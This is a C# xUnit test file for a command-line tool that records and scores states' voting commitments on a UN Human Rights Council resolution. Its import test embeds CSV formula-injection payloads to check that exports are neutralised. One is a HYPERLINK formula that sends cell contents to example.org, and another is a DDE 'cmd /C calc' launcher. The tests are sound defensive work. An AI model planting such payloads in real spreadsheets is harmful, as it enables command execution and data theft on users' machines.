using Placard.Rooms.CommandLine;

namespace Placard.Tests.CommandLine;

/// <summary>A whip count kept from the command line, over the starter edition.</summary>
public sealed class WhipTests(StarterEdition starter) : IDisposable
{
    private readonly ProgramPaths _here = starter.NewHome();

    public void Dispose() => Directory.Delete(_here.Home, recursive: true);

    [Fact]
    public async Task A_count_is_kept_from_its_beginning_to_its_score()
    {
        var id = await BeginAsync();
        Assert.Equal(
            0,
            (await RunAsync("whip", "add", id, "Malawi", "yes", "--sure", "heard", "--who", "a colleague", "--when", "2022-10-01")).Exit
        );
        Assert.Equal(
            0,
            (
                await RunAsync(
                    "whip",
                    "import",
                    id,
                    Write("state,position,sure,when\nUkraine,yes,told,2022-10-05\nArgentina,yes,guessed,\n")
                )
            ).Exit
        );
        Assert.Contains("Snapshot 1:", (await RunAsync("whip", "take", id)).Output, StringComparison.Ordinal);
        var shown = await RunAsync("whip", "show", id, "--json");
        Assert.Equal(3, shown.Json.GetProperty("commitments").GetArrayLength());
        Assert.Equal(47, shown.Json.GetProperty("states").GetArrayLength());
        var csv = await RunAsync("whip", "show", id, "--csv");
        Assert.Equal(48, csv.Output.TrimEnd().Split("\r\n").Length);
        Assert.Contains("Commitments: 3 of 47 states", (await RunAsync("whip", "show", "xinjiang")).Output, StringComparison.Ordinal);
        var score = await RunAsync("whip", "score", id, "--json");
        Assert.Equal("A/HRC/51/L.6", score.Json.GetProperty("vote").GetString());
        Assert.False(score.Json.GetProperty("carried").GetBoolean());
        // Both abstained.
        Assert.Equal(["MWI", "UKR"], score.Json.GetProperty("broken").EnumerateArray().Select(b => b.GetProperty("state").GetString()!));
    }

    [Fact]
    public async Task A_table_that_was_exported_is_imported_without_writing_anything_twice()
    {
        var id = await BeginAsync();
        var first = await RunAsync(
            "whip",
            "import",
            id,
            Write(
                "state,position,sure,who,note\n"
                    + "Malawi,no,heard,\"=HYPERLINK(\"\"http://example.org/?x=\"\"&A1,\"\"ok\"\")\",\"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
                    + "Gambia,yes,heard,+41 22 000 00 00,-1+1\n"
                    + "Benin,yes,heard,\"\t=1+1\",\"=2\"\n"
                    + "Brazil,yes,told,'+1 said so,\"two\nlines\"\n"
            )
        );
        Assert.Contains("4 commitments added", first.Output, StringComparison.Ordinal);
        var table = (await RunAsync("whip", "show", id, "--csv")).Output;
        Assert.Contains("'+41 22 000 00 00", table, StringComparison.Ordinal);
        Assert.Contains("'+1 said so", table, StringComparison.Ordinal);
        foreach (var mark in new[] { "", "\uFEFF" })
            Assert.Contains(
                "0 commitments added; 4 already there.",
                (await RunAsync("whip", "import", id, Write(mark + table))).Output,
                StringComparison.Ordinal
            );
    }

    [Fact]
    public async Task Entries_are_withdrawn_and_their_words_erased_and_the_whole_deleted()
    {
        var id = await BeginAsync();
        await RunAsync("whip", "add", id, "Malawi", "yes", "--sure", "heard", "--who", "a colleague", "--when", "2022-10-01");
        Assert.Equal(0, (await RunAsync("whip", "withdraw", id, "1", "--erase")).Exit);
        Assert.DoesNotContain("a colleague", (await RunAsync("whip", "show", id, "--json")).Output, StringComparison.Ordinal);
        Assert.Equal(0, (await RunAsync("whip", "withdraw", id, "1")).Exit);
        Assert.Equal(2, (await RunAsync("whip", "withdraw", id, "1")).Exit);
        Assert.Equal(1, (await RunAsync("whip", "withdraw", id, "9")).Exit);
        Assert.Equal(2, (await RunAsync("whip", "delete", id)).Exit);
        Assert.Equal(2, (await RunAsync("whip", "delete", id[..4], "--yes")).Exit);
        Assert.Equal(0, (await RunAsync("whip", "delete", id, "--yes")).Exit);
        Assert.Equal(1, (await RunAsync("whip", "show", id)).Exit);
        Assert.Contains("no whip count", (await RunAsync("whip", "list")).Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_count_is_named_by_the_letters_it_begins_with_and_not_by_those_of_two()
    {
        var id = await BeginAsync();
        Assert.Equal(0, (await RunAsync("whip", "revise", id[..5], "--on", "2022-10-07", "--goal", "block")).Exit);
        var listed = (await RunAsync("whip", "list", "--json")).Json.GetProperty("counts")[0];
        Assert.Equal(("2022-10-07", "block"), (listed.GetProperty("date").GetString(), listed.GetProperty("goal").GetString()));
        await BeginAsync();
        Assert.Equal(2, (await RunAsync("whip", "show", "xinjiang")).Exit);
    }

    [Theory]
    [InlineData(1, "whip show nosuchcount")]
    [InlineData(1, "whip score ID")]
    [InlineData(1, "whip import ID /no/such/file.csv")]
    [InlineData(2, "whip import ID /")]
    [InlineData(2, "whip add ID Atlantis yes --sure told")]
    [InlineData(2, "whip add ID China perhaps --sure told")]
    [InlineData(2, "whip add ID China yes --sure certain")]
    [InlineData(2, "whip add ID China yes")]
    [InlineData(2, "whip add ID China yes --sure told --when 9999-01-01")]
    [InlineData(2, "whip show ID --since yesterday")]
    [InlineData(1, "whip show ID --since 3")]
    [InlineData(2, "whip withdraw ID one")]
    [InlineData(2, "whip new --body SC --title x --on 2030-01-01")]
    [InlineData(2, "whip new --body HRC --title x --on someday")]
    [InlineData(2, "whip list --desk Host=127.0.0.1;Port=1;Database=x;Password=secret")]
    [InlineData(2, "whip list --desk /etc/hostname")]
    public async Task Wrong_words_get_one_clear_line_and_leave_nothing_half_written(int exit, string words)
    {
        var id = await BeginAsync("--symbol", "A/HRC/99/L.1");
        var said = await RunAsync([.. words.Split(' ').Select(w => w == "ID" ? id : w)]);
        Assert.Equal(exit, said.Exit);
        Assert.Empty(said.Output);
        Assert.StartsWith("placard: ", said.Error, StringComparison.Ordinal);
        Assert.Single(said.Error.TrimEnd('\n').Split('\n'));
        Assert.DoesNotContain("secret", said.Error, StringComparison.Ordinal);
        Assert.Equal(0, (await RunAsync("whip", "list", "--json")).Json.GetProperty("counts")[0].GetProperty("entries").GetInt32());
    }

    private async Task<string> BeginAsync(params string[] more)
    {
        var begun = await RunAsync([
            "whip",
            "new",
            "--like",
            "A/HRC/51/L.6",
            "--title",
            "Debate on the situation in Xinjiang",
            "--on",
            "2022-10-06",
            "--json",
            .. more.Length > 0 ? more : ["--symbol", "A/HRC/51/L.6"],
        ]);
        Assert.True(begun.Exit == 0, begun.Error);
        return begun.Json.GetProperty("counts")[0].GetProperty("id").GetString()!;
    }

    private string Write(string table)
    {
        var path = Path.Combine(_here.Home, "calls.csv");
        File.WriteAllText(path, table);
        return path;
    }

    private Task<Shell> RunAsync(params string[] words) => Shell.RunAsync(_here, words);
}
